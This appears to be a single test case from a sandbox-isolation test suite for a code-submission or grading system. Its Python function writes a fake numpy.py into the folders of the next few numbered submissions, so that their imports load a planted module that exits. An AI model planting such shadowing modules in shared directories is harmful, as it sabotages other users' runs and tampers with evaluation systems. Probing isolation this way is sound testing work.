"""Success: files in the folder that the next submission will get."""

import os

from kit import tries


def attack(a):
    parent, name = os.path.split(os.getcwd())

    def plant(folder):
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "numpy.py"), "w") as file:
            file.write("raise SystemExit('planted')\n")

    numbers = range(int(name) + 1, int(name) + 4) if name.isdigit() else range(1, 4)
    return tries(*(lambda n=n: plant(os.path.join(parent, str(n))) for n in numbers))
